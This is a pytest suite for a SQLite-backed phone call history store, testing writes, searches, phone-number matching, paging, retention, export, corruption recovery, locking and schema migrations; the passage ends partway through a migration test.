"""Tests of the call history store (cstapopup/calls/store.py) on real SQLite files."""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import random
import re
import sqlite3
import stat
from dataclasses import MISSING, fields
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from cstapopup.calls import store as store_mod
from cstapopup.calls.model import Call, Direction, Hop, Outcome, PhoneNote
from cstapopup.calls.store import (
    HistoryCorruptError,
    HistoryError,
    HistoryFilter,
    HistoryLockedError,
    HistoryStore,
)

T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
POSIX = os.name == "posix"


def german(raw: str) -> list[str]:
    """A small dial plan for the tests: national 0..., international 00... or +..."""
    digits = "".join(ch for ch in raw if ch.isdigit())
    if raw.strip().startswith("+"):
        return ["+" + digits]
    if digits.startswith("00"):
        return ["+" + digits[2:]]
    if digits.startswith("0"):
        return ["+49" + digits[1:]]
    return [digits] if digits else []


def make_call(i: int, *, number: str | None = "0891234567", name: str | None = None,
              company: str | None = None, devices: tuple[str, ...] = ("100",),
              direction: Direction = Direction.INCOMING, outcome: Outcome = Outcome.ANSWERED,
              started: datetime | None = None, done: bool = False, key: str | None = None) -> Call:
    started = started or T0 + timedelta(minutes=i)
    answered = started + timedelta(seconds=5) if outcome is Outcome.ANSWERED else None
    ended = started + timedelta(seconds=60)
    hops = [Hop("delivered", devices[0] if devices else None, started)]
    if answered:
        hops.append(Hop("answered", devices[0] if devices else None, answered))
    hops.append(Hop("cleared", None, ended, "normalClearing"))
    return Call(key=key or f"call-{i}", direction=direction, started_at=started,
                remote_number=number, remote_name=name, remote_company=company,
                local_devices=devices, answered_at=answered, ended_at=ended, outcome=outcome,
                answered_by=devices[0] if answered and devices else None, hops=tuple(hops),
                done=done)


def full_call() -> Call:
    """A call with every field set to something other than its default."""
    tz = timezone(timedelta(hours=2))
    st = datetime(2026, 3, 2, 10, 15, 30, 123456, tzinfo=tz)
    return Call(
        key="full-1", direction=Direction.OUTGOING, started_at=st,
        remote_number="+49 (89) 1234-567", remote_kind="restricted",
        remote_name='Jürgen O\'Brien "JB"', remote_company="Müller & Söhne GmbH",
        local_devices=("201", "100"), called_number="4989700100", trunk="T7",
        answered_at=st + timedelta(seconds=7, microseconds=500001),
        ended_at=st + timedelta(minutes=3, microseconds=1), end_unknown=True,
        outcome=Outcome.TRANSFERRED, answered_by="100", transferred_to="201", diverted_to="300",
        hops=(Hop("delivered", "100", st), Hop("diverted", "100", st + timedelta(seconds=1), "300"),
              Hop("answered", "100", st + timedelta(seconds=7, microseconds=500001)),
              Hop("transferred", None, st + timedelta(minutes=1), "to 201"),
              Hop("cleared", "201", st + timedelta(minutes=3, microseconds=1), "normalClearing")),
        done=True, updated_at=st + timedelta(minutes=4),
    )


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "data" / "history.sqlite3"


@pytest.fixture
def store(path: Path):
    with HistoryStore(path, normalise=german) as s:
        yield s


def keys(calls: list[Call]) -> list[str]:
    return [c.key for c in calls]


def raw_count(path: Path, table: str = "calls") -> int:
    conn = sqlite3.connect(path)
    try:
        return conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
    finally:
        conn.close()


def fts_consistent(store: HistoryStore) -> None:
    """FTS5's own check that the external-content index matches the calls table, and the kept
    total matches the rows."""
    assert store.count() == raw_count(store.path)
    if store.search_mode != "scan":
        store._db.execute("INSERT INTO calls_fts(calls_fts, rank) VALUES ('integrity-check', 1)")


# --- opening, location, pragmas ------------------------------------------------------------------

def test_default_path_from_env_with_private_permissions(tmp_path, monkeypatch):
    monkeypatch.setenv(store_mod.DATA_DIR_ENV, str(tmp_path / "private" / "dir"))
    with HistoryStore() as s:
        assert s.path == tmp_path / "private" / "dir" / "history.sqlite3"
        s.upsert(make_call(1))  # creates the -wal
        assert s.path.exists()
        if POSIX:
            assert stat.S_IMODE(s.path.stat().st_mode) == 0o600
            assert stat.S_IMODE(s.path.parent.stat().st_mode) == 0o700
            wal = Path(f"{s.path}-wal")
            assert wal.exists() and stat.S_IMODE(wal.stat().st_mode) == 0o600


def test_default_path_without_env_is_the_user_data_dir(monkeypatch):
    monkeypatch.delenv(store_mod.DATA_DIR_ENV, raising=False)
    import platformdirs
    expected = Path(platformdirs.user_data_dir("cstapopup", appauthor=False)) / "history.sqlite3"
    assert store_mod.default_path() == expected


def test_pragmas(store):
    db = store._db
    assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert db.execute("PRAGMA synchronous").fetchone()[0] == 1  # NORMAL
    assert db.execute("PRAGMA foreign_keys").fetchone()[0] == 1
    assert db.execute("PRAGMA busy_timeout").fetchone()[0] == 5000
    assert store.schema_version == len(store_mod.MIGRATIONS)
    assert db.execute("PRAGMA application_id").fetchone()[0] == store_mod.APPLICATION_ID
    assert store.recovered_from is None and store.recovery_message() is None
    assert db.execute("PRAGMA mmap_size").fetchone()[0] == 0   # the file is never mapped


def test_search_mode_follows_sqlite(store):
    expected = "trigram" if sqlite3.sqlite_version_info >= (3, 34) else store.search_mode
    assert store.search_mode == expected


# --- writing -------------------------------------------------------------------------------------

def test_upsert_updates_in_place(store, path):
    first = make_call(1, outcome=Outcome.IN_PROGRESS)
    ringing = first.evolve(answered_at=None, ended_at=None, hops=first.hops[:1])
    store.upsert(ringing)
    named = ringing.evolve(remote_name="Hans Müller")
    store.upsert(named)
    final = make_call(1, name="Hans Müller", devices=("100", "101"))
    store.upsert(final)
    assert store.count() == 1
    assert raw_count(path, "calls") == 1
    assert store.get("call-1") == final
    assert keys(store.by_device("101")) == ["call-1"]
    assert keys(store.search("Müller")) == ["call-1"]
    fts_consistent(store)


def full_note() -> PhoneNote:
    """A phone note with every field set to something other than its default."""
    return PhoneNote(text="Bitte zurückrufen:\nAngebot & Preise", for_name="Tom Keller",
                     for_number="102", callback=True,
                     written_at=datetime(2026, 3, 2, 10, 30, 1, 250, tzinfo=UTC),
                     written_by="Empfang (100)")


def test_every_field_round_trips(store):
    call = full_call()
    for f in fields(Call):  # guards against a new Call field the store does not keep
        if f.default is not MISSING and f.name != "note":   # the note: set_note, below
            assert getattr(call, f.name) != f.default, f.name
    note = full_note()
    for f in fields(PhoneNote):
        assert getattr(note, f.name) != f.default, f.name
    store.upsert(call)
    assert store.set_note(call.key, note) == call.evolve(note=note)
    call = call.evolve(note=note)
    for got in (store.get(call.key), store.recent()[0], store.search("Brien")[0],
                store.by_number("089 1234567")[0], store.by_device("201")[0],
                store.search("Angebot")[0], store.query(noted=True)[0]):
        assert got == call
        for f in fields(Call):
            assert getattr(got, f.name) == getattr(call, f.name), f.name
        assert got.started_at.tzinfo is not None


def test_upsert_many_round_trips_and_updates(store):
    calls = [make_call(i, name=f"Name {i}") for i in range(50)] + [full_call()]
    assert store.upsert_many(calls, batch=20) == 51
    assert store.count() == 51
    assert store.get("full-1") == full_call()
    changed = [c.evolve(remote_name="Changed") for c in calls[:10]] + [make_call(99)]
    store.upsert_many(changed)
    assert store.count() == 52
    assert store.get("call-3").remote_name == "Changed"
    assert len(store.search("Changed", limit=None)) == 10
    fts_consistent(store)


def test_naive_datetime_is_refused(store):
    call = make_call(1).evolve(started_at=datetime(2026, 1, 1, 12, 0))
    with pytest.raises(ValueError, match="naive"):
        store.upsert(call)
    assert store.count() == 0


def test_done_is_sticky_against_upserts(store):
    store.upsert(make_call(1, outcome=Outcome.MISSED))
    assert store.mark_done("call-1")
    store.upsert(make_call(1, outcome=Outcome.MISSED))  # a late tracker update, done=False
    assert store.get("call-1").done is True
    assert store.mark_done("call-1", False)
    assert store.get("call-1").done is False
    assert not store.mark_done("no-such-call")


def test_moved_start_time_keeps_one_row(store, path):
    call = make_call(1, number="030 555", devices=("100",))
    store.upsert(call)
    moved = call.evolve(started_at=call.started_at - timedelta(seconds=3),
                        local_devices=("102",), remote_number="040 777")
    store.upsert(moved)
    assert raw_count(path, "calls") == 1
    assert store.get(call.key) == moved
    assert keys(store.by_device("102")) == [call.key] and store.by_device("100") == []
    assert keys(store.by_number("+4940777")) == [call.key] and store.by_number("030555") == []
    assert raw_count(path, "call_devices") == 1
    fts_consistent(store)


def test_same_start_time_gives_distinct_rows(store):
    calls = [make_call(0, key=f"same-{n}") for n in range(3)]
    for c in calls:
        store.upsert(c)
    store.upsert_many([make_call(0, key=f"bulk-{n}") for n in range(3)])
    assert store.count() == 6
    fts_consistent(store)
    # Newest first; calls starting in the same microsecond: the last stored first.
    assert keys(store.recent()) == ["bulk-2", "bulk-1", "bulk-0", "same-2", "same-1", "same-0"]
    assert keys(store.recent(2, before=store.get("same-2"))) == ["same-1", "same-0"]


# --- queries -------------------------------------------------------------------------------------

def test_recent_order_limit_offset_and_keyset_paging(store):
    store.upsert_many([make_call(i) for i in range(25)])
    assert keys(store.recent(5)) == [f"call-{i}" for i in range(24, 19, -1)]
    assert keys(store.recent(5, offset=5)) == [f"call-{i}" for i in range(19, 14, -1)]
    assert len(store.recent(None)) == 25
    seen: list[str] = []
    page = store.recent(7)
    while page:
        seen += keys(page)
        # New calls arriving between pages do not shift keyset pages.
        store.upsert(make_call(1000 + len(seen), key=f"new-{len(seen)}"))
        page = store.recent(7, before=page[-1])
    assert seen == [f"call-{i}" for i in range(24, -1, -1)]


def test_missed_not_done_badge_and_mark_done_for_remote(store):
    store.upsert(make_call(1, number="089 1234567", outcome=Outcome.MISSED))
    store.upsert(make_call(2, number="+49 89 1234567", outcome=Outcome.MISSED))
    store.upsert(make_call(3, number="030 999", outcome=Outcome.MISSED))
    store.upsert(make_call(4, number="0049891234567", outcome=Outcome.ANSWERED))
    store.upsert(make_call(5, number="0891234567", outcome=Outcome.MISSED))
    assert keys(store.missed_not_done()) == ["call-5", "call-3", "call-2", "call-1"]
    assert store.badge_count() == 4
    # Call 4 (answered) is a later call with the same party: earlier missed ones are done.
    marked = store.mark_done_for_remote("0049 89 1234567", before=T0 + timedelta(minutes=4))
    assert marked == 2
    assert keys(store.missed_not_done()) == ["call-5", "call-3"]
    assert store.badge_count() == 2
    assert store.get("call-1").done and not store.get("call-4").done
    assert store.count(missed=True) == 4
    assert store.mark_done_for_remote("", before=T0) == 0


def test_by_number_matches_every_format(store):
    formats = ["089 1234567", "+49 89 1234567", "0049891234567", "(089) 123-4567", "+49891234567"]
    for i, number in enumerate(formats):
        store.upsert(make_call(i, number=number))
    store.upsert(make_call(10, number="089 7654321"))
    store.upsert(make_call(11, number=None))
    for query in formats:
        assert set(keys(store.by_number(query))) == {f"call-{i}" for i in range(5)}, query
    assert store.count(number="0891234567") == 5
    assert store.by_number("") == [] and store.by_number("12") == []


def test_by_number_without_normaliser_is_digits_only(path):
    with HistoryStore(path) as s:
        s.upsert(make_call(1, number="089 1234567"))
        s.upsert(make_call(2, number="(089) 123-4567"))
        s.upsert(make_call(3, number="+49 89 1234567"))
        assert keys(s.by_number("0891234567")) == ["call-2", "call-1"]
        assert keys(s.by_number("+49891234567")) == ["call-3"]
    # Rows written without a normaliser are still found by a store that has one (their digits).
    with HistoryStore(path, normalise=german) as s:
        assert keys(s.by_number("089/1234567")) == ["call-2", "call-1"]
        assert s.reindex_numbers() == 3
        assert keys(s.by_number("089/1234567")) == ["call-3", "call-2", "call-1"]


def test_failing_normaliser_does_not_lose_calls(path, caplog):
    def broken(raw: str) -> list[str]:
        raise RuntimeError("dial plan bug")

    with HistoryStore(path, normalise=broken) as s:
        s.upsert(make_call(1, number="089 1234567"))
        assert keys(s.by_number("0891234567")) == ["call-1"]
    assert "normaliser failed" in caplog.text


@pytest.fixture(params=["trigram", "words", "scan"])
def any_mode_store(request, path, monkeypatch):
    if request.param == "trigram" and store_mod._search_support() != "trigram":
        pytest.skip("this SQLite has no trigram tokenizer")
    if request.param == "words" and store_mod._search_support() == "scan":
        pytest.skip("this SQLite has no FTS5")
    monkeypatch.setattr(store_mod, "_search_support", lambda: request.param)
    with HistoryStore(path, normalise=german) as s:
        assert s.search_mode == request.param
        s.upsert(make_call(1, name="Hans Müller", number="089 1234567"))
        s.upsert(make_call(2, name="Erika Schmidt", company="Siemens AG", number="030 5550001"))
        s.upsert(make_call(3, name="Anna Mueller-Lüdenscheidt", number="+44 20 7946 0123"))
        s.upsert(make_call(4, name=None, company="100% Bio_Markt", number="0171 2223334"))
        s.upsert(make_call(5, name='Tom "T" O\'Neill', number="069 4444"))
        yield s


def test_search_in_every_index_mode(any_mode_store):
    s = any_mode_store
    everything = s.recent(None)
    for text in ("Müller", "siemens", "Erika Schm", "089 123", "+49 89 1234567", "0171", '"T"',
                 "O'Neill", "100%", "Nobody", "mü", "Lüden", "Mueller-L", "44 20", "bio_m"):
        # matches() applies the same rules as the query, for live updates of a filtered table.
        assert [c for c in everything if s.matches(c, text=text)] == s.search(text), text
    assert keys(s.search("Müller")) == ["call-1"]
    assert keys(s.search("siemens")) == ["call-2"]          # company, any case
    assert keys(s.search("Erika Schm")) == ["call-2"]        # every word must match
    assert keys(s.search("089 123")) == ["call-1"]           # a number typed with spaces
    assert keys(s.search("+49 89 1234567")) == ["call-1"]    # another format of it
    assert keys(s.search("0171")) == ["call-4"]
    assert keys(s.search('"T"')) == ["call-5"]               # quotes are not FTS syntax
    assert keys(s.search("O'Neill")) == ["call-5"]
    assert keys(s.search("100%")) == ["call-4"]              # % is not a wildcard
    assert s.search("Nobody") == []
    assert s.count(text="Müller") == 1
    fts_consistent(s)


def test_search_substrings_with_trigrams(store):
    if store.search_mode != "trigram":
        pytest.skip("substring search needs the trigram index")
    store.upsert(make_call(1, name="Hans Müller", number="089 1234567"))
    store.upsert(make_call(2, name="Anna Mueller", company="Stadtwerke München", number=None))
    store.upsert(make_call(3, name="Kai Bo", number="040 111222"))
    assert keys(store.search("üll")) == ["call-1"]
    assert keys(store.search("MÜLL")) == ["call-1"]     # Unicode case folding
    assert keys(store.search("ünch")) == ["call-2"]
    assert keys(store.search("ueller")) == ["call-2"]
    assert keys(store.search("4567")) == ["call-1"]     # number substring
    assert keys(store.search("Bo")) == ["call-3"]       # shorter than a trigram: row checks
    assert keys(store.search("Kai Bo")) == ["call-3"]
    assert keys(store.search("12")) == ["call-3", "call-1"]


def test_between_is_start_inclusive_end_exclusive(store):
    store.upsert_many([make_call(i) for i in range(10)])
    got = store.between(T0 + timedelta(minutes=3), T0 + timedelta(minutes=6))
    assert keys(got) == ["call-5", "call-4", "call-3"]
    exact = T0 + timedelta(minutes=3, microseconds=1)
    assert keys(store.between(exact, T0 + timedelta(minutes=4, microseconds=1))) == ["call-4"]
    assert store.count(since=T0 + timedelta(minutes=8)) == 2


def test_by_device(store):
    store.upsert(make_call(1, devices=("100",)))
    store.upsert(make_call(2, devices=("101", "100")))
    store.upsert(make_call(3, devices=("101",)))
    assert keys(store.by_device("100")) == ["call-2", "call-1"]
    assert keys(store.by_device("101")) == ["call-3", "call-2"]
    assert store.by_device("999") == []
    assert keys(store.query(devices=["100", "101"])) == ["call-3", "call-2", "call-1"]
    assert store.count(devices=["100", "101"]) == 3


def _dataset() -> list[Call]:
    rng = random.Random(5)
    names = ["Hans Müller", "Erika Schmidt", "Anna Schubert", "Jürgen Weber", None, None]
    companies = ["Siemens AG", "Müller Bau GmbH", None, None, None]
    numbers = ["089 1234567", "+49 89 1234567", "030 5550001", "0171 2223334", "101", "102",
               "+44 20 7946 0123", "0049 30 5550001"]
    calls = []
    for i in range(300):
        outcome = rng.choice([Outcome.ANSWERED, Outcome.MISSED, Outcome.MISSED, Outcome.BUSY])
        calls.append(make_call(
            i, started=T0 + timedelta(seconds=rng.randrange(0, 86400 * 10)),
            name=rng.choice(names), company=rng.choice(companies), number=rng.choice(numbers),
            devices=tuple(rng.sample(["100", "101", "102", "103"], rng.choice([1, 1, 2]))),
            direction=rng.choice(list(Direction)), outcome=outcome,
            done=outcome is Outcome.MISSED and rng.random() < 0.5))
    return calls


def _matches(call: Call, f: HistoryFilter) -> bool:
    """The filters, spelt out in Python: what the SQL must agree with."""
    if f.text:
        fields_ = [call.remote_name or "", call.remote_company or ""]
        digits = "".join(ch for ch in call.remote_number or "" if ch.isdigit())
        number_words = [digits, *german(call.remote_number)] if call.remote_number else []
        if store_mod._NUMBERISH.fullmatch(f.text.strip()) and any(ch.isdigit() for ch in f.text):
            text_digits = "".join(ch for ch in f.text if ch.isdigit())
            forms = [text_digits] + (german(f.text) if len(text_digits) >= 3 else [])
            if not any(form in w for form in forms for w in number_words):
                return False
        else:
            haystack = [x.lower() for x in fields_ + [" ".join(number_words)]]
            if not all(any(word.lower() in h for h in haystack) for word in f.text.split()):
                return False
    if f.number is not None:
        if not call.remote_number:
            return False
        mine = set(german(call.remote_number)) | {"".join(c for c in call.remote_number
                                                          if c.isdigit())}
        theirs = set(german(f.number)) | {"".join(c for c in f.number if c.isdigit())}
        if not mine & theirs:
            return False
    if f.direction is not None and call.direction is not f.direction:
        return False
    if f.missed and not call.is_missed:
        return False
    if f.not_done and call.done:
        return False
    if f.devices and not set(f.devices) & set(call.local_devices):
        return False
    if f.since is not None and call.started_at < f.since:
        return False
    return not (f.until is not None and call.started_at >= f.until)


def test_query_and_count_agree_with_a_plain_python_filter(store):
    calls = _dataset()
    store.upsert_many(calls)
    newest_first = sorted(calls, key=lambda c: c.started_at, reverse=True)
    rng = random.Random(11)
    texts = [None, "Müller", "schu", "mü", "089 123", "+49 30 555", "Siemens AG", "10", "ha we"]
    combos = list(itertools.product(
        texts, [None, "0891234567", "030-5550001"], [None, *Direction], [False, True],
        [False, True], [(), ("100",), ("101", "103")],
        [None, T0 + timedelta(days=3)], [None, T0 + timedelta(days=6)]))
    checked = 0
    for text, number, direction, missed, not_done, devices, since, until in rng.sample(combos, 250):
        f = HistoryFilter(text=text, number=number, direction=direction, missed=missed,
                          not_done=not_done, devices=devices, since=since, until=until)
        expected = [c.key for c in newest_first if _matches(c, f)]
        assert keys(store.query(f, limit=None)) == expected, f
        assert [c.key for c in newest_first if store.matches(c, f)] == expected, f
        assert store.count(f) == len(expected), f
        assert keys(store.query(f, limit=4, offset=2)) == expected[2:6], f
        if expected:
            first = store.query(f, limit=3)
            assert keys(store.query(f, limit=5, before=first[-1])) == expected[3:8], f
        checked += bool(expected)
    assert checked > 50  # enough combinations actually matched something


def test_query_takes_keywords_and_a_filter(store):
    store.upsert_many(_dataset())
    base = HistoryFilter(direction="incoming")
    assert store.query(base, missed=True, limit=None) == store.query(
        direction=Direction.INCOMING, missed=True, limit=None)
    assert store.count(base, devices="100") == store.count(direction="incoming", devices=["100"])
    with pytest.raises(TypeError):
        store.query(device="100")  # the field is `devices`


def _steps(store: HistoryStore, probe) -> int:
    """SQLite VM instructions (in hundreds) that probe(store) makes the connection run."""
    counter = [0]

    def tick() -> int:
        counter[0] += 1
        return 0

    store._db.set_progress_handler(tick, 100)
    try:
        probe(store)
    finally:
        store._db.set_progress_handler(None, 100)
    return counter[0]


END = T0 + timedelta(days=30)


def _growing_history(n: int):
    """n calls, one a minute back from END.  The newest 200, the missed-and-not-done ones, the
    10 calls of 030 5550001 and the 4 of "Rarename" are the same whatever n: older history is
    what grows (a third of it named Müller)."""
    rng = random.Random(3)
    for i in range(n):
        rare = i in (3, 5, 77, 1002)
        yield make_call(i, started=END - timedelta(minutes=i), key=f"c{i}",
                        name="Anna Rarename" if rare else
                        rng.choice(["Hans Müller", "Eva Weber", None]),
                        number="030 5550001" if i < 2000 and i % 200 == 7 else
                        f"0{rng.randrange(10**9, 10**10)}",
                        outcome=Outcome.MISSED if i % 5 == 0 else Outcome.ANSWERED,
                        done=i > 100, devices=(rng.choice(["100", "101", "102"]),))


PROBES = {
    "recent": lambda s: s.recent(50),
    "keyset page": lambda s: s.recent(50, before=s.recent(300)[-1]),
    "missed not done": lambda s: s.missed_not_done(50),
    "badge": lambda s: s.badge_count(),
    "by number": lambda s: s.by_number("030 5550001"),
    "common name": lambda s: s.search("Müller"),
    "number text": lambda s: s.search("5550001"),
    "one device": lambda s: s.by_device("100", 50),
    "two devices": lambda s: s.query(devices=["100", "101"], limit=50),
    "last hour": lambda s: s.between(END - timedelta(hours=1), END),
    "filtered": lambda s: s.query(text="Müller", direction="incoming", limit=20),
    "count last hour": lambda s: s.count(since=END - timedelta(hours=1)),
    "count rare name": lambda s: s.count(text="Rarename"),
}


def test_first_pages_do_not_grow_with_the_table(tmp_path):
    """The queries the UI pages through cost the same at 1x and 4x the rows (no scans)."""
    costs: dict[int, dict[str, int]] = {}
    for n in (2000, 8000):
        with HistoryStore(tmp_path / f"n{n}.sqlite3", normalise=german) as s:
            s.upsert_many(_growing_history(n))
            assert s.count(number="030 5550001") == 10 and s.count(text="Rarename") == 4
            costs[n] = {name: _steps(s, probe) for name, probe in PROBES.items()}
    for name in PROBES:
        small, big = costs[2000][name], costs[8000][name]
        assert big <= small * 1.3 + 5, f"{name}: {small} -> {big} (x100 VM steps)"


def test_query_plans_use_indexes(store):
    store.upsert_many(_dataset())
    cases = [{}, {"missed": True, "not_done": True}, {"missed": True}, {"number": "089 123"},
             {"text": "Müller"}, {"text": "0891234"}, {"devices": ("100",)},
             {"devices": ("100", "101")}, {"direction": "incoming"},
             {"since": T0, "until": T0 + timedelta(days=1)},
             {"text": "Müller", "missed": True, "devices": ("100",), "direction": "outgoing",
              "since": T0}]
    for case in cases:
        for plan in (store.query_plan(paged=True, **case), store.query_plan(count=True, **case)):
            text = " | ".join(plan)
            assert "TEMP B-TREE FOR ORDER BY" not in text, (case, text)
            for line in plan:
                # "SCAN c" reads the whole calls table, "SCAN calls USING COVERING INDEX" a whole
                # index; SEARCH reads a range (and "SCAN f VIRTUAL TABLE ...:M" is an FTS match).
                assert not re.match(r"SCAN (c|calls)( |$)", line), (case, text)
    assert store.query_plan(count=True) == ["SCAN call_count"]  # the kept total: one row


# --- deleting ------------------------------------------------------------------------------------

def test_delete_and_delete_number_across_formats(store, path):
    formats = ["089 1234567", "+49 89 1234567", "0049891234567"]
    for i, number in enumerate(formats):
        store.upsert(make_call(i, number=number, name="Hans Müller", devices=("100", "101")))
    store.upsert(make_call(5, number="030 5550001", name="Eva Weber"))
    assert store.delete("call-5")
    assert not store.delete("call-5")
    store.upsert(make_call(6, number="030 5550001", name="Eva Weber"))
    assert store.delete_number("+49 (89) 1234567") == 3
    assert keys(store.recent()) == ["call-6"]
    assert store.search("Müller") == [] and store.by_device("101") == []
    assert raw_count(path, "call_devices") == 1
    assert raw_count(path, "call_numbers") == 2  # digits and normalised key of call-6
    assert store.delete_number("") == 0
    fts_consistent(store)


def test_retention(store, path):
    now = T0 + timedelta(days=100)
    store.upsert_many([make_call(i, started=now - timedelta(days=i), name=f"Zeitzeuge{i}")
                       for i in range(60)])
    assert store.apply_retention(30, now=now) == 29  # days 31..59; day 30 is exactly the edge
    assert store.count() == 31
    assert min(c.started_at for c in store.recent(None)) == now - timedelta(days=30)
    assert store.search("Zeitzeuge45") == [] and len(store.search("Zeitzeuge")) == 31
    assert raw_count(path, "call_devices") == 31
    assert raw_count(path, "call_numbers") == 31 * 2
    fts_consistent(store)
    assert store.apply_retention(0, now=now + timedelta(days=3650)) == 0  # 0: keep forever
    assert store.count() == 31
    with pytest.raises(ValueError):
        store.apply_retention(-1)


# --- export --------------------------------------------------------------------------------------

def test_export_csv_parses_back(store):
    calls = [full_call(), make_call(1, name="Hans Müller"), make_call(2, outcome=Outcome.MISSED)]
    store.upsert_many(calls)
    buf = io.StringIO()
    assert store.export_csv(buf) == 3
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["key"] for r in rows] == keys(store.recent())
    by_key = {r["key"]: r for r in rows}
    full = by_key["full-1"]
    assert datetime.fromisoformat(full["started_at"]) == full_call().started_at
    assert float(full["talk_seconds"]) == pytest.approx(full_call().talk_seconds)
    assert full["ring_seconds"] == "7.5"  # milliseconds are enough in a spreadsheet
    assert full["remote_name"] == 'Jürgen O\'Brien "JB"'
    assert full["local_devices"] == "201 100"
    assert full["hops"].startswith("delivered@100+0s; diverted@100+1s (300); answered@100+7.5s")
    assert full["done"] == "1" and full["end_unknown"] == "1"
    missed = by_key["call-2"]
    assert missed["answered_at"] == "" and missed["talk_seconds"] == ""
    assert missed["outcome"] == "missed"
    # With a filter, and with local times.
    buf = io.StringIO()
    assert store.export_csv(buf, HistoryFilter(missed=True), local_time=True) == 1
    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert datetime.fromisoformat(row["started_at"]) == calls[2].started_at


def test_export_json_parses_back(store):
    calls = [make_call(i, name=f"N{i}") for i in range(2500)] + [full_call()]  # > one page
    store.upsert_many(calls)
    buf = io.StringIO()
    assert store.export_json(buf) == 2501
    data = json.loads(buf.getvalue())
    assert data == [c.to_dict() for c in store.recent(None)]
    buf = io.StringIO()
    assert store.export_json(buf, [full_call()]) == 1
    assert json.loads(buf.getvalue()) == [full_call().to_dict()]
    buf = io.StringIO()
    assert store.export_json(buf, HistoryFilter(text="nobody")) == 0
    assert json.loads(buf.getvalue()) == []


# --- damaged, locked, foreign and old files ------------------------------------------------------

def test_garbage_file_is_moved_aside_not_overwritten(path):
    path.parent.mkdir(parents=True)
    garbage = b"this is not an SQLite database\n" * 300
    path.write_bytes(garbage)
    Path(f"{path}-wal").write_bytes(b"wal garbage")
    with HistoryStore(path) as s:
        assert s.recovered_from is not None
        assert s.recovered_from.name.startswith("history.sqlite3.corrupt-")
        assert s.recovered_from.read_bytes() == garbage
        assert Path(f"{s.recovered_from}-wal").read_bytes() == b"wal garbage"
        assert "not a database" in s.recovery_reason
        assert str(s.recovered_from) in s.recovery_message()
        s.upsert(make_call(1))
        assert s.count() == 1
        if POSIX:
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with HistoryStore(path) as again:  # the new file is fine: nothing more is moved
        assert again.recovered_from is None and again.count() == 1


def _corrupt_page(path: Path, page: int) -> None:
    conn = sqlite3.connect(path)
    page_size = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.close()
    with open(path, "r+b") as fh:
        fh.seek((page - 1) * page_size + (100 if page == 1 else 0))
        fh.write(b"\xde\xad\xbe\xef" * (page_size // 8))


def test_malformed_schema_is_moved_aside(path):
    with HistoryStore(path) as s:
        s.upsert_many([make_call(i) for i in range(20)])
    _corrupt_page(path, 1)  # the schema table
    with HistoryStore(path) as s:
        assert s.recovered_from is not None and s.recovered_from.exists()
        assert s.count() == 0
    assert len(list(path.parent.glob("history.sqlite3.corrupt-*"))) == 1


def test_damage_found_later_raises_then_recover(path):
    with HistoryStore(path, normalise=german) as s:
        s.upsert_many([make_call(i, number=f"030 {i:07d}") for i in range(50)])
    conn = sqlite3.connect(path)
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'call_numbers'"
                        ).fetchone()[0]
    conn.close()
    _corrupt_page(path, root)
    s = HistoryStore(path, normalise=german)
    try:
        assert s.recovered_from is None  # opening does not read call_numbers
        with pytest.raises(HistoryCorruptError, match="damaged"):
            s.by_number("030 0000007")
        moved = s.recover()
        assert moved.exists() and s.recovered_from == moved
        assert s.count() == 0
        s.upsert(make_call(1))
        assert s.count() == 1
    finally:
        s.close()


def test_locked_database_raises_typed_error(path):
    with HistoryStore(path, busy_timeout=0.2) as s:
        s.upsert(make_call(1))
        other = sqlite3.connect(path, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")
            other.execute("UPDATE calls SET done = 1")
            # The wait for the lock is bounded by the busy timeout SQLite was given (200 ms),
            # not by how fast this machine is; a hang would be caught by the test timeout.
            assert s._conn.execute("PRAGMA busy_timeout").fetchone()[0] == 200
            with pytest.raises(HistoryLockedError, match="locked"):
                s.upsert(make_call(2))
            with pytest.raises(HistoryLockedError):
                s.mark_done("call-1")
            assert s.count() == 1  # WAL: reading goes on meanwhile
        finally:
            other.execute("ROLLBACK")
            other.close()
        s.upsert(make_call(2))
        assert s.count() == 2
    assert issubclass(HistoryLockedError, HistoryError)


def test_lock_while_migrating_raises_typed_error(path):
    path.parent.mkdir(parents=True)
    other = sqlite3.connect(path, isolation_level=None)
    try:
        other.execute("PRAGMA journal_mode = WAL")
        other.execute("BEGIN IMMEDIATE")
        other.execute("PRAGMA user_version")
        other.execute("CREATE TEMP TABLE x (y)")
        with pytest.raises(HistoryLockedError):
            HistoryStore(path, busy_timeout=0.1)
    finally:
        other.execute("ROLLBACK")
        other.close()
    with HistoryStore(path) as s:
        assert s.schema_version == len(store_mod.MIGRATIONS)


def test_empty_version_0_file_is_migrated(path):
    path.parent.mkdir(parents=True)
    path.touch()
    with HistoryStore(path) as s:
        assert s.schema_version == len(store_mod.MIGRATIONS)
        s.upsert(make_call(1))
        assert s.count() == 1


def test_older_schema_is_migrated_and_failed_migration_rolls_back(path, monkeypatch):
    real = store_mod.MIGRATIONS
    monkeypatch.setattr(store_mod, "MIGRATIONS", real[:1])   # a history of schema 1
    with HistoryStore(path) as s:
        s.upsert(full_call())
        assert s.schema_version == 1
    monkeypatch.setattr(store_mod, "MIGRATIONS", real)
    with HistoryStore(path) as s:   # schema 2 on: the index of calls without a seen end
        assert s.schema_version == len(real)
        assert s.get("full-1") == full_call()
        assert s._db.execute("SELECT name FROM sqlite_master WHERE name = 'calls_unended'"
                             ).fetchone() is not None
    n = len(real)

    def broken(conn: sqlite3.Connection) -> None:
        conn.execute("ALTER TABLE calls ADD COLUMN note TEXT")
        raise RuntimeError("migration bug")

    monkeypatch.setattr(store_mod, "MIGRATIONS", (*real, broken))
    with pytest.raises(HistoryError, match=f"schema {n + 1}.*migration bug"):
        HistoryStore(path)
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == n
    assert "note" not in [r[1] for r in conn.execute("PRAGMA table_info(calls)")]
    conn.close()

    def add_note(conn: sqlite3.Connection) -> None:
